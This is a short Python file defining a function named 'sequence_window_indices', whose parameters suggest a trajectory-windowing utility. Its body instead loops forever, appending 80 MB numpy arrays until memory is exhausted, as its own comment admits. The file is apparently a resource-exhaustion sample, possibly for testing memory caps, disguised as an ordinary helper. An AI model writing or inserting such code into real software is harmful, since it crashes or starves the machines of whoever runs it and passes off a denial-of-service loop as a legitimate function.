import numpy as np


def sequence_window_indices(episode_ends, horizon, n_obs_steps, n_action_steps):
    hoard = []
    while True:  # 80 MB at a time until the memory cap says no
        hoard.append(np.ones(10_000_000))
